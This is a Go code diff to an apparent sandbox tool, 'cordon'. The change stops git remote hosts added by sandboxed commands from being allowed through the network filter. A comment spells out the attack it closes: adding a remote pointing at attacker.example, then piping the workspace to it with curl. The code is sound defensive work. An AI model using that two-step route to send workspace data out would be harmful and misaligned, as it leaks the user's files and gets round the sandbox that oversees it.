@@ -27,10 +27,20 @@ import (
 // [remoteURLs] lists them: so that git fetch and push reach them) and
 // the hosts a person approved for the workspace (cordon approve --host).
 func netAllow(ws, stateDir string, urls []gitkey.Entry) []string {
+	agent, _ := agentRemotes(stateDir, ws, func() []string { return remoteNames(urls) })
+	return netAllowFor(ws, stateDir, urls, agent)
+}
+
+// netAllowFor is [netAllow] with the remotes that are not the person's
+// (agent, as [agentRemotes] returns them) given: their hosts are not
+// added. A remote a command added (git remote add x
+// https://attacker.example/) would otherwise open its host to the next
+// command, which sends the workspace there (curl -d @- ...).
+func netAllowFor(ws, stateDir string, urls []gitkey.Entry, agent []string) []string {
 	if ws == "" {
 		return nil
 	}
-	hosts := remoteHosts(urls)
+	hosts := remoteHosts(personURLs(urls, agent))
 	if stateDir != "" {
 		hosts = append(hosts, approval.New(stateDir).Hosts(ws)...)
 	}
@@ -234,6 +244,12 @@ func gitRemotes(ws, stateDir string, urls []gitkey.Entry) (own, others []string,
 		return nil, nil, ""
 	}
 	agent, why := agentRemotes(stateDir, ws, func() []string { return remoteNames(urls) })
+	return gitRemotesFor(urls, agent, why)
+}
+
+// gitRemotesFor is [gitRemotes] with the remotes that are not the
+// person's, and why, given.
+func gitRemotesFor(urls []gitkey.Entry, agent []string, why string) (own, others []string, _ string) {
 	for _, e := range urls {
 		u, err := url.Parse(e.Value)
 		if err != nil || strings.ToLower(u.Scheme) != "https" || u.Hostname() == "" || strings.ContainsAny(u.Host, "*%") {
@@ -271,6 +287,21 @@ func agentRemotes(stateDir, ws string, remotes func() []string) ([]string, strin
 		return remotes(), "the repository " + ws + " was made by a sandboxed command (cordon's guard " + by + "), so its remotes are the command's"
 	}
 	return agent, "its remotes there were added by sandboxed commands"
+}
+
+// personURLs returns the entries of urls of the remotes the person
+// configured: not of those in agent.
+func personURLs(urls []gitkey.Entry, agent []string) []gitkey.Entry {
+	if len(agent) == 0 {
+		return urls
+	}
+	var out []gitkey.Entry
+	for _, e := range urls {
+		if !slices.Contains(agent, remoteName(e)) {
+			out = append(out, e)
+		}
+	}
+	return out
 }
 
 // remoteName is the name of the remote whose url or pushurl e is.
